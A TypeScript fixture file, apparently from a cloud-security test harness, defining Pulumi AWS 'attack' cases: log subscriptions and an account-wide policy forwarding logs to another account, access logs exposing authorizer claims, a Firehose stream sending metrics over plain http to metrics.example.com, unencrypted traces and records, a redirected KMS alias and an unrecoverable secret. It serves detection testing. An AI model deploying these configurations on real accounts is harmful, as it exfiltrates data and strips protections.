import * as cloudwatch from "@pulumi/aws/cloudwatch";
import * as kinesis from "@pulumi/aws/kinesis";
import * as kms from "@pulumi/aws/kms";
import { Secret } from "@pulumi/aws/secretsmanager/secret";
import * as xray from "@pulumi/aws/xray";

import { set } from "../build/changes";
import { ACCOUNT, KEY_ARN, OTHER_ACCOUNT, streamArn } from "../build/documents";
import { keep, keepAdded } from "../build/kinds";
import type { Attack } from "../harness/attack";

/** Logs and records that go elsewhere, and what keeps them there. */
export const copies: readonly Attack[] = [
  keepAdded(
    "logs-to-other-account",
    "the API's logs go to another account",
    (b) =>
      new cloudwatch.LogSubscriptionFilter(`${b.name}-filter`, {
        region: b.region,
        logGroup: "API-Gateway-Execution-Logs",
        filterPattern: "",
        destinationArn: `arn:aws:logs:${b.region}:${OTHER_ACCOUNT}:destination:all`,
      }),
  ),
  keepAdded(
    "logs-to-other-region",
    "the API's logs go to another region",
    (b) =>
      new cloudwatch.LogSubscriptionFilter(`${b.name}-filter`, {
        region: b.region,
        logGroup: "API-Gateway-Execution-Logs",
        filterPattern: "",
        destinationArn: `arn:aws:lambda:us-east-1:${ACCOUNT}:function:collect`,
      }),
  ),
  keepAdded(
    "account-logs",
    "the logs of the whole account go elsewhere",
    (b) =>
      new cloudwatch.LogAccountPolicy(`${b.name}-policy`, {
        region: b.region,
        policyName: "all",
        policyType: "SUBSCRIPTION_FILTER_POLICY",
        policyDocument: JSON.stringify({
          DestinationArn: `arn:aws:lambda:${b.region}:${OTHER_ACCOUNT}:function:collect`,
          FilterPattern: "",
        }),
      }),
  ),
  keepAdded(
    "log-delivery",
    "logs are delivered to another account",
    (b) =>
      new cloudwatch.LogDeliveryDestination(`${b.name}-destination`, {
        region: b.region,
        name: "d",
        deliveryDestinationConfiguration: {
          destinationResourceArn: `arn:aws:logs:${b.region}:${OTHER_ACCOUNT}:log-group:all`,
        },
        tags: b.tags,
      }),
  ),
  keep("access-log-elsewhere", "the access log goes to another account", {
    changes: {
      "api-stage": set({
        accessLogSettings: {
          destinationArn: `arn:aws:logs:ap-south-1:${OTHER_ACCOUNT}:log-group:orders`,
          format: '{"requestId":"$context.requestId","error":"$context.integration.error"}',
        },
      }),
    },
  }),
  keep("access-log-authorizer", "the access log holds what an authorizer knows", {
    changes: {
      "api-stage": set({
        accessLogSettings: {
          destinationArn: `arn:aws:logs:ap-south-1:${ACCOUNT}:log-group:orders`,
          format:
            '{"requestId":"$context.requestId","error":"$context.integration.error","claims":"$context.authorizer.claims"}',
        },
      }),
    },
  }),
  keepAdded(
    "metrics-elsewhere",
    "the metrics of the account go elsewhere over plain http",
    (b) =>
      new kinesis.FirehoseDeliveryStream(`${b.name}-delivery`, {
        region: b.region,
        destination: "http_endpoint",
        serverSideEncryption: { enabled: true },
        httpEndpointConfiguration: {
          url: "http://metrics.example.com/",
          s3Configuration: { roleArn: b.pipeline.roleArn, bucketArn: "arn:aws:s3:::failed" },
        },
        tags: b.tags,
      }),
  ),
  keepAdded(
    "delivery-plain",
    "a delivery stream keeps records in plain",
    (b) =>
      new kinesis.FirehoseDeliveryStream(`${b.name}-delivery`, {
        region: b.region,
        destination: "extended_s3",
        extendedS3Configuration: { roleArn: b.pipeline.roleArn, bucketArn: "arn:aws:s3:::orders" },
        tags: b.tags,
      }),
  ),
  keepAdded(
    "traces-plain",
    "traces are kept without a key of ours",
    (b) => new xray.EncryptionConfig(`${b.name}-config`, { region: b.region, type: "NONE" }),
  ),
  keepAdded(
    "alias-moved",
    "the alias that the program's key has points to a key that the stack does not have",
    (b) => new kms.Alias(`${b.name}-alias`, { region: b.region, name: "alias/aws/kinesis", targetKeyId: KEY_ARN }),
  ),
  keepAdded(
    "secret-window",
    "a secret cannot be restored",
    (b) =>
      new Secret(`${b.name}-secret`, { region: b.region, recoveryWindowInDays: 0, tags: b.tags }, { protect: true }),
  ),
  keepAdded(
    "secret-replica",
    "a replica of a secret has no key of ours",
    (b) =>
      new Secret(
        `${b.name}-secret`,
        {
          region: b.region,
          recoveryWindowInDays: 30,
          kmsKeyId: KEY_ARN,
          replicas: [{ region: "eu-west-1" }],
          tags: b.tags,
        },
        { protect: true },
      ),
  ),
  keepAdded(
    "stream-reader-firehose",
    "the stream's records are kept in plain in a bucket",
    (b) =>
      new kinesis.FirehoseDeliveryStream(`${b.name}-delivery`, {
        region: b.region,
        destination: "extended_s3",
        kinesisSourceConfiguration: { kinesisStreamArn: streamArn(b), roleArn: b.pipeline.roleArn },
        extendedS3Configuration: { roleArn: b.pipeline.roleArn, bucketArn: `arn:aws:s3:::${OTHER_ACCOUNT}-records` },
        tags: b.tags,
      }),
  ),
];
